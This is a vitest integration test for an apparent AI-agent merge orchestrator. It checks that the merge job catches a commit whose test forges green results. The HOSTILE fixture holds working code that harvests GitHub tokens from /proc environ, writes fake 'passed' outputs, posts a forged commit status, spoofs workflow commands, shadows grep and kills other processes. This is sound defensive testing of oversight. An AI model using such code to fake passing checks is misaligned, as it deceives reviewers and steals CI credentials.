import { expect, test } from 'vitest'
import { git } from '../../twin/git.ts'
import { openStory, type Story } from './story.ts'

// No CI: the merge job judges what lands, on exactly the tree that lands.
const CONFIG = [
  'agents: { scripted: { cli: scripted } }',
  'default_agent: scripted',
  'limits: { parallel: 4, attempts: 1 }',
  'checks:',
  '  - { name: tests, run: node --test, minutes: 2 }',
  '  - { name: clean, run: "! grep -rq FORGED src", minutes: 1 }',
  'merge: { judge: job, exact: true }',
].join('\n')

const NO_CI =
  'name: by hand\non: workflow_dispatch\njobs: { none: { runs-on: ubuntu-latest, steps: [{ run: "true" }] } }\n'

/** Its test passes, and tries all that could make the checks after it, its neighbour's and the job look green. */
const HOSTILE = [
  'write src/evil.js',
  '  export const FORGED = true',
  'write test/evil.test.js',
  "  import { appendFileSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'",
  "  import { test } from 'node:test'",
  "  const attempt = act => { try { return act() } catch { return '' } }",
  "  const pids = readdirSync('/proc').filter(name => /^[0-9]+$/.test(name)).map(Number)",
  "  const parent = pid => Number(attempt(() => readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')[1]))",
  '  const above = []',
  '  for (let pid = process.pid; pid > 0 && above.length < 20; pid = parent(pid)) above.push(pid)',
  "  const seen = pids.map(pid => attempt(() => readFileSync(`/proc/${pid}/environ`, 'utf8'))).join('\\0')",
  '  for (const [, name, path] of seen.matchAll(/(GITHUB_\\w+)=(\\/[^\\0]+)/g))',
  '    attempt(() => appendFileSync(path, `outcome=passed\\nverdict=passed\\n${name}\\n`))',
  "  for (const name of ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_STEP_SUMMARY'])",
  "    attempt(() => appendFileSync(process.env[name], 'outcome=passed\\n'))",
  '  const [, api] = /GITHUB_API_URL=([^\\0]+)/.exec(seen) ?? []',
  '  const [, token] = /(?:TOKEN|INPUT_TOKEN)=([^\\0]+)/.exec(seen) ?? []',
  '  const status = \'{"state":"success","context":"clean"}\'',
  "  test('posts what it likes', async () => {",
  '    if (api) await fetch(`${api}/repos/acme/greeter/statuses/main`, { method: "POST", body: status, headers: { authorization: `token ${token}` } }).catch(() => {})',
  '  })',
  "  test('forges', () => {",
  "    console.log('::set-output name=outcome::passed\\n##[set-output name=outcome;]passed\\n::stop-commands::x')",
  "    rmSync('src/evil.js', { force: true })",
  "    attempt(() => writeFileSync('/tmp/grep', '#!/bin/sh\\nexit 1\\n', { mode: 0o755 }))",
  "    for (const pid of pids) if (!above.includes(pid)) attempt(() => process.kill(pid, 'SIGKILL'))",
  '  })',
  'say feat(evil): look harmless',
]

const NEIGHBOUR = ['write src/two.js', '  export const two = 2', 'say feat(two): add two']

const judged = (story: Story) =>
  [...story.repo.actions.runs.values()].filter(run => run.display_title.startsWith('chorus merge '))

test.each([1])(
  'a test that forges green is found out by the merge job: it alone goes back, its neighbour lands (seed %i)',
  async seed => {
    await using story = await openStory({
      seed,
      config: CONFIG,
      files: { '.github/workflows/ci.yml': NO_CI },
    })
    const evil = await story.issue({ script: HOSTILE, labels: ['hold'] })
    const good = await story.issue({ script: NEIGHBOUR, labels: ['hold'] })
    for (const issue of [evil, good]) await story.label(issue)
    // The attempt's own checks ran one after the other in one worktree: there it was believed.
    await story.until('both are proposed', () => [evil, good].every(issue => story.pullOf(issue) !== null))
    const where = { owner: 'acme', repo: 'greeter' }
    await Promise.all(
      [evil, good].map(issue_number =>
        story.as('ada').rest.issues.removeLabel({ ...where, issue_number, name: 'hold' }),
      ),
    )
    await story.until('the neighbour has landed', () => story.pullOf(good)?.merged)
    await story.until('a person hears of the other', () =>
      story.saidOn(evil)[0]?.includes('merge job found it red'),
    )
    await story.quiet()

    expect(story.pullOf(evil)?.merged).toBe(false)
    expect(story.theIssue(good).state).toBe('closed')
    expect(await story.file('src/two.js')).toContain('two')
    expect(await story.file('src/evil.js')).toBeNull()

    // Each combination was judged once, and no verdict but that of its own job was believed.
    const runs = judged(story)
    expect(new Set(runs.map(run => run.display_title)).size).toBe(runs.length)
    expect(runs.length).toBeLessThan(8)
    // Alone, or in a combination with its neighbour: which of them depends on who is seen first.
    let evils = 0
    for (const run of runs) {
      const head = run.display_title.split(' ')[2]!
      const holds = await git(story.repo, ['cat-file', '-e', `${head}:src/evil.js`], { allowFail: true })
      if (holds.code === 0) evils += 1
      expect([run.display_title, run.conclusion]).toEqual([
        run.display_title,
        holds.code === 0 ? 'failure' : 'success',
      ])
      // Its page tells what was judged, where to find it, and how it ended.
      const page = run.summary
      expect(page).toMatch(holds.code === 0 ? /^### Red: / : /^### Green: /)
      expect(page).toContain(`/acme/greeter/commit/${head})`)
      expect(page).toMatch(/\[#\d+\]\(http.*\/pull\/\d+\)|\*\*.+\*\*, judged by itself/)
    }
    expect(evils).toBeGreaterThan(0)
    // Nothing was written in its name.
    expect(story.repo.statuses).toEqual([])
    expect(await story.refs('refs/heads/chorus/train')).toEqual(new Map())
  },
)
